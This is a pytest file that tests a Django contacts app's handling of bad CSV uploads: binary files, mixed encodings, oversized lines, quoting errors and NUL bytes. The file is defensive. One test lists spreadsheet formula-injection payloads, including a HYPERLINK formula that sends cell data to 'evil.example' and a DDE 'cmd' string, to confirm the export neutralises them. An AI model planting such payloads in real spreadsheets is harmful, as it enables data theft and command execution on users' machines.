"""Bad CSV uploads through the real front doors (issue 12 §4): ``POST /api/v1/imports`` with an
API key, the task run inline, and the dashboard's upload step. A file that cannot be read is a
400 (a form error in the dashboard) saying why, with nothing stored; a file that reads keeps
its good rows and reports each bad one with its row number. Never a 500, never a job that
ends on an internal error.

The corpora are small generator functions; nothing large is committed."""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
from collections.abc import Iterator

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from contacts.imports.reading import MAX_COLUMNS
from contacts.models import Contact, ImportJob, ImportUpload, JobStatus

pytestmark = pytest.mark.django_db

GOOD = ("ada@example.com", "bo@example.com")


def post_import(api, data: bytes, mapping: dict | None = None, name: str = "people.csv"):
    fields = {"file": SimpleUploadedFile(name, data, content_type="text/csv")}
    if mapping is not None:
        fields["mapping"] = json.dumps(mapping)
    return api.post("/api/v1/imports", fields, format="multipart")


def run_import(api, capture, data: bytes, mapping: dict | None = None) -> dict:
    """Upload through the API and run the task inline; the job as the API reports it."""
    with capture(execute=True):
        response = post_import(api, data, mapping)
    assert response.status_code == 202, response.content[:500]
    job = api.get(f"/api/v1/imports/{response.json()['id']}").json()
    assert job["status"] == JobStatus.DONE, job["failure_reason"]
    # Every data row is accounted for: written, skipped or reported.
    assert (
        job["created"] + job["updated"] + job["skipped"] + job["error_count"] == job["total_rows"]
    )
    return job


def assert_clean_400(response) -> dict:
    assert response.status_code == 400, response.content[:500]
    body = response.json()
    assert body["error"]["code"] == "invalid"
    reason = body["error"]["fields"]["file"][0]
    assert reason and "Traceback" not in reason
    return body


def emails(workspace) -> list[str]:
    return sorted(Contact.objects.for_workspace(workspace).values_list("email", flat=True))


def reasons(job: dict) -> dict[int, str]:
    return {error["row"]: error["reason"] for error in job["errors"]}


# --- corpora -----------------------------------------------------------------------------------


def binary_files() -> Iterator[tuple[str, bytes]]:
    """Files that are not text at all: known formats by their signature, and noise."""
    rng = random.Random(12)
    yield (
        "png",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(500)),
    )
    yield "xlsx", b"PK\x03\x04\x14\x00\x06\x00" + b"[Content_Types].xml" + b"\x00" * 40
    yield "xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 200
    yield "pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    yield "gzip", b"\x1f\x8b\x08\x00" + bytes(rng.randrange(256) for _ in range(300))
    yield "elf", b"\x7fELF\x02\x01\x01\x00" + bytes(rng.randrange(256) for _ in range(2000))
    yield "noise", bytes(rng.randrange(256) for _ in range(4096))
    yield "nul-text", b"email,name\n" + b"a@example.com\x00,\x00Ada\x00\n" * 50


def unreadable_texts() -> Iterator[tuple[str, bytes, str]]:
    """Text files with nothing to import, and the words the refusal must contain."""
    yield "empty", b"", "empty"
    yield "blank lines", b"\r\n \n\t\n", "empty"
    yield "header only", b"email,first_name\r\n", "no rows"
    yield "header and blank lines", b"email,first_name\n\n,\n , \n", "no rows"
    yield "open quote in the header", b'email,"first_name\na@example.com,Ada\n', "quote"


def encodings() -> Iterator[tuple[str, bytes]]:
    """The same two people in encodings spreadsheets and old systems write."""
    text = (
        "email,first_name,last_name\r\n"
        "ada@example.com,Zoë,Ångström\r\n"
        "bo@example.com,Bo,Ødegård\r\n"
    )
    yield "utf-8", text.encode()
    yield "utf-8 with BOM", codecs.BOM_UTF8 + text.encode()
    yield "utf-16-le with BOM", codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    yield "utf-16-be with BOM", codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    yield "utf-16-le without BOM", text.encode("utf-16-le")
    yield "utf-16-be without BOM", text.encode("utf-16-be")
    yield "cp1252", text.encode("cp1252")
    yield "latin-1", text.encode("latin-1")
    japanese = (
        "email,名前,会社\r\n"
        "ada@example.com,山田太郎,株式会社テスト\r\n"
        "bo@example.com,鈴木,ソニー\r\n"
    )
    yield "shift-jis", japanese.encode("shift_jis")
    yield "euc-jp", japanese.encode("euc_jp")
    yield "gb18030", japanese.encode("gb18030")
    # One line written by one program, the next by another.
    yield (
        "mixed utf-8 and cp1252",
        (b"email,first_name\r\nada@example.com,Zo\xc3\xab\r\nbo@example.com,Zo\xeb\r\n"),
    )


def formula_cells() -> Iterator[str]:
    """Cells a spreadsheet would run as formulas when the data is exported and opened again."""
    yield "=1+1"
    yield '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    yield "+cmd|' /C calc'!A0"
    yield "-2+3"
    yield "@SUM(A1:A9)"
    yield "\t=1+1"
    yield "\r=1+1"


# --- files that are not CSV --------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "data"), list(binary_files()), ids=lambda v: str(v)[:12])
def test_binary_files_are_a_400_naming_the_file_and_store_nothing(api, workspace, kind, data):
    assert_clean_400(post_import(api, data, name=f"upload.{kind}"))
    assert not ImportJob.objects.exists()
    assert not ImportUpload.objects.exists()
    assert not Contact.objects.for_workspace(workspace).exists()


@pytest.mark.parametrize(
    ("kind", "data", "words"), list(unreadable_texts()), ids=lambda v: str(v)[:20]
)
def test_files_with_nothing_to_import_are_a_400_saying_why(api, kind, data, words):
    body = assert_clean_400(post_import(api, data))
    assert words in body["error"]["fields"]["file"][0].lower()
    assert not ImportJob.objects.exists()


# --- encodings ---------------------------------------------------------------------------------


@pytest.mark.parametrize(("kind", "data"), list(encodings()), ids=lambda v: str(v)[:24])
def test_any_encoding_imports_the_addresses_or_is_refused_cleanly(
    api, workspace, django_capture_on_commit_callbacks, kind, data
):
    with django_capture_on_commit_callbacks(execute=True):
        response = post_import(api, data)
    if response.status_code == 400:
        assert_clean_400(response)
        assert not ImportJob.objects.exists()
        return
    assert response.status_code == 202, response.content[:500]
    job = api.get(f"/api/v1/imports/{response.json()['id']}").json()
    assert job["status"] == JobStatus.DONE, job["failure_reason"]
    assert emails(workspace) == list(GOOD)


@pytest.mark.parametrize("kind", ["utf-8", "utf-16-le with BOM", "utf-16-le without BOM", "cp1252"])
def test_common_encodings_keep_the_accents(
    api, workspace, django_capture_on_commit_callbacks, kind
):
    data = dict(encodings())[kind]
    run_import(api, django_capture_on_commit_callbacks, data)
    names = dict(Contact.objects.for_workspace(workspace).values_list("email", "last_name"))
    assert names == {"ada@example.com": "Ångström", "bo@example.com": "Ødegård"}


# --- shapes ------------------------------------------------------------------------------------


def test_a_5_mb_line_is_one_bad_row_and_the_rows_after_it_are_kept(
    api, workspace, django_capture_on_commit_callbacks
):
    data = (
        "email,first_name\n"
        "ada@example.com,Ada\n"
        f"huge@example.com,{'x' * 5_000_000}\n"
        "bo@example.com,Bo\n"
    ).encode()
    job = run_import(api, django_capture_on_commit_callbacks, data)
    assert emails(workspace) == list(GOOD)
    assert (job["total_rows"], job["created"], job["error_count"]) == (3, 2, 1)
    assert "first_name is longer than 100" in reasons(job)[3]


def test_a_5_mb_address_is_one_bad_row(api, workspace, django_capture_on_commit_callbacks):
    data = f"email\nada@example.com\n{'a' * 5_000_000}@example.com\nbo@example.com\n".encode()
    job = run_import(api, django_capture_on_commit_callbacks, data)
    assert emails(workspace) == list(GOOD)
    assert "longer than 254" in reasons(job)[3]


def test_a_5_mb_line_in_an_unmapped_column_does_not_stop_the_import(
    api, workspace, django_capture_on_commit_callbacks
):
    data = f"email,notes\nada@example.com,{'n' * 5_000_000}\nbo@example.com,short\n".encode()
    job = run_import(api, django_capture_on_commit_callbacks, data, {"email": "email"})
    assert emails(workspace) == list(GOOD)
    assert job["error_count"] == 0


def test_a_5_mb_header_line_is_refused_or_read(api, workspace, django_capture_on_commit_callbacks):
    header = "email," + "h" * 5_000_000
    with django_capture_on_commit_callbacks(execute=True):
        response = post_import(api, f"{header}\nada@example.com,x\n".encode(), {"email": "email"})
    assert response.status_code in (202, 400), response.content[:500]
    if response.status_code == 202:
        assert emails(workspace) == ["ada@example.com"]


def test_thousands_of_columns_import_the_mapped_ones(
    api, workspace, django_capture_on_commit_callbacks
):
    width = MAX_COLUMNS
    header = ["email", *(f"c{n}" for n in range(width - 2)), "first_name"]
    rows = [
        [address, *("v" for _ in range(width - 2)), name]
        for address, name in zip(GOOD, ("Ada", "Bo"), strict=True)
    ]
    data = "\n".join(",".join(row) for row in [header, *rows]).encode()
    run_import(
        api,
        django_capture_on_commit_callbacks,
        data,
        {"email": "email", "first_name": "first_name"},
    )
    names = dict(Contact.objects.for_workspace(workspace).values_list("email", "first_name"))
    assert names == {"ada@example.com": "Ada", "bo@example.com": "Bo"}


def test_thousands_of_same_named_columns_get_distinct_names(api, workspace):
    data = ("email," + ",".join(["x"] * (MAX_COLUMNS - 1)) + "\nada@example.com\n").encode()
    assert post_import(api, data, {"email": "email", "x (3)": "first_name"}).status_code == 202


@pytest.mark.parametrize("width", [MAX_COLUMNS + 1, 20_000, 200_000])
def test_more_columns_than_an_import_reads_are_a_400_saying_how_many(api, dashboard, width):
    data = ("email," + ",".join(f"c{n}" for n in range(width - 1)) + "\nada@example.com\n").encode()
    body = assert_clean_400(post_import(api, data, {"email": "email"}))
    assert f"{width:,} columns" in body["error"]["fields"]["file"][0]
    response = dashboard_upload(dashboard, data)
    assert f"{width:,} columns" in response.context["form"].errors["file"][0]
    assert not ImportJob.objects.exists()


def test_rows_wider_or_narrower_than_the_header_are_read(
    api, workspace, django_capture_on_commit_callbacks
):
    data = b"email,first_name\nada@example.com,Ada,extra,cells,here\nbo@example.com\n"
    run_import(api, django_capture_on_commit_callbacks, data)
    assert emails(workspace) == list(GOOD)


def test_a_file_without_a_header_imports_every_row(
    api, workspace, django_capture_on_commit_callbacks
):
    data = b"Ada,ada@example.com\nBo,bo@example.com\n"
    job = run_import(api, django_capture_on_commit_callbacks, data)
    assert emails(workspace) == list(GOOD)
    assert job["total_rows"] == 2


@pytest.mark.parametrize("ending", [b"\n", b"\r\n", b"\r"])
def test_any_line_ending_is_read(api, workspace, django_capture_on_commit_callbacks, ending):
    data = ending.join([b"email,first_name", b"ada@example.com,Ada", b"bo@example.com,Bo"])
    run_import(api, django_capture_on_commit_callbacks, data)
    assert emails(workspace) == list(GOOD)


# --- quotes ------------------------------------------------------------------------------------


def test_an_unterminated_quote_is_reported_on_its_row_and_earlier_rows_are_kept(
    api, workspace, django_capture_on_commit_callbacks
):
    data = (
        b"email,first_name\n"
        b"ada@example.com,Ada\n"
        b"bo@example.com,Bo\n"
        b'cy@example.com,"Cy\n'
        b"dee@example.com,Dee\n"
    )
    job = run_import(api, django_capture_on_commit_callbacks, data)
    assert emails(workspace) == list(GOOD)
    assert "quote" in reasons(job)[4]
    assert not Contact.objects.filter(first_name__contains="dee@example.com").exists()


def test_an_unterminated_quote_on_the_last_line_is_reported(
    api, workspace, django_capture_on_commit_callbacks
):
    data = b'email,first_name\nada@example.com,Ada\nbo@example.com,Bo\ncy@example.com,"Cy'
    job = run_import(api, django_capture_on_commit_callbacks, data)
    assert emails(workspace) == list(GOOD)
    assert "quote" in reasons(job)[4]


def test_a_quoted_cell_over_several_lines_is_kept_whole(
    api, workspace, django_capture_on_commit_callbacks
):
    data = b'email,first_name\nada@example.com,"A\nda"\nbo@example.com,"Bo ""B"""\n'
    run_import(api, django_capture_on_commit_callbacks, data)
    names = dict(Contact.objects.for_workspace(workspace).values_list("email", "first_name"))
    assert names == {"ada@example.com": "A\nda", "bo@example.com": 'Bo "B"'}


@pytest.mark.parametrize(
    "line",
    [b'"cy@example.com"x,Cy', b'cy@example.com,"Cy"trailing', b'cy@exa"mple.com,Cy', b'",,,'],
)
def test_stray_quotes_never_fail_the_import(
    api, workspace, django_capture_on_commit_callbacks, line
):
    data = b"email,first_name\nada@example.com,Ada\n" + line + b"\nbo@example.com,Bo\n"
    job = run_import(api, django_capture_on_commit_callbacks, data)
    assert set(GOOD) <= set(emails(workspace)) or job["error_count"]


# --- cell contents -----------------------------------------------------------------------------


def test_nul_bytes_past_the_sniffed_start_reject_only_their_row(
    api, workspace, django_capture_on_commit_callbacks
):
    filler = "".join(f"p{n}@example.com,P{n}\n" for n in range(4000))  # > 64 KB before the NUL
    data = f"email,first_name\n{filler}ada@example.com,A\x00da\nbo@example.com,Bo\n".encode()
    job = run_import(api, django_capture_on_commit_callbacks, data)
    assert job["created"] == 4001
    assert not Contact.objects.filter(email="ada@example.com").exists()
    assert "NUL" in reasons(job)[4002]


def test_nul_bytes_in_a_property_cell_reject_only_their_row(
    api, workspace, django_capture_on_commit_callbacks
):
    from contacts.tests.factories import PropertyDefinitionFactory

    PropertyDefinitionFactory(workspace=workspace, key="notes", type="text")
    filler = "".join(f"p{n}@example.com,x\n" for n in range(5000))
    data = f"email,notes\n{filler}ada@example.com,a\x00b\nbo@example.com,ok\n".encode()
    job = run_import(
        api,
        django_capture_on_commit_callbacks,
        data,
        {"email": "email", "notes": "properties.notes"},
    )
    assert job["created"] == 5001
    assert "NUL" in reasons(job)[5002]


def test_formula_cells_are_stored_as_text_and_exported_harmless(
    api, workspace, django_capture_on_commit_callbacks
):
    formulas = list(formula_cells())
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["email", "first_name", "company"])
    for n, formula in enumerate(formulas):
        writer.writerow([f"f{n}@example.com", formula[:100], formula])
    run_import(api, django_capture_on_commit_callbacks, buffer.getvalue().encode())
    stored = dict(Contact.objects.for_workspace(workspace).values_list("email", "company"))
    assert sorted(stored.values()) == sorted(f.strip() for f in formulas)

    export = api.get("/api/v1/contacts/export")
    assert export.status_code == 200
    text = b"".join(export.streaming_content).decode()
    for row in csv.DictReader(io.StringIO(text)):
        for column in ("first_name", "company"):
            assert not row[column].startswith(("=", "+", "-", "@", "\t", "\r")), row[column]


# --- the dashboard's upload --------------------------------------------------------------------


def dashboard_upload(dashboard, data: bytes, name: str = "people.csv"):
    url = reverse("dashboard:contacts:import_new")
    return dashboard.post(url, {"file": SimpleUploadedFile(name, data, "text/csv")})


@pytest.mark.parametrize(
    ("kind", "data"),
    [(kind, data) for kind, data in binary_files()]
    + [(kind, data) for kind, data, _ in unreadable_texts()],
    ids=lambda v: str(v)[:20],
)
def test_the_dashboard_shows_a_form_error_for_unreadable_files(dashboard, kind, data):
    response = dashboard_upload(dashboard, data)
    assert response.status_code == 200
    errors = response.context["form"].errors["file"]
    assert errors and "Traceback" not in errors[0]
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize(("kind", "data"), list(encodings()), ids=lambda v: str(v)[:24])
def test_the_dashboard_previews_any_encoding(dashboard, kind, data):
    response = dashboard_upload(dashboard, data)
    assert response.status_code in (200, 302)
    if response.status_code == 302:
        page = dashboard.get(response.url)
        assert page.status_code == 200
        assert b"ada@example.com" in page.content
